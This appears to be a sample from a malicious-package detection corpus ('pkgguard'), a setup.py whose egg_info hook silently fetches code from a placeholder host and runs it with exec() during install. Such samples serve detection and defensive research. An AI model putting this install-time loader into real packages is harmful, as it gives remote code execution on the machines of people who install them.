# pkgguard corpus 293 (install-hook), modelled on [bertus]; inert, never run.
import subprocess

from setuptools import setup
from setuptools.command.egg_info import egg_info


class Info(egg_info):
    def run(self):
        subprocess.getoutput("python3 -c \"import urllib.request as u;exec(u.urlopen('https://cdn.example/i').read())\"")
        egg_info.run(self)


setup(name="pkg", version="2.0", cmdclass={"egg_info": Info})
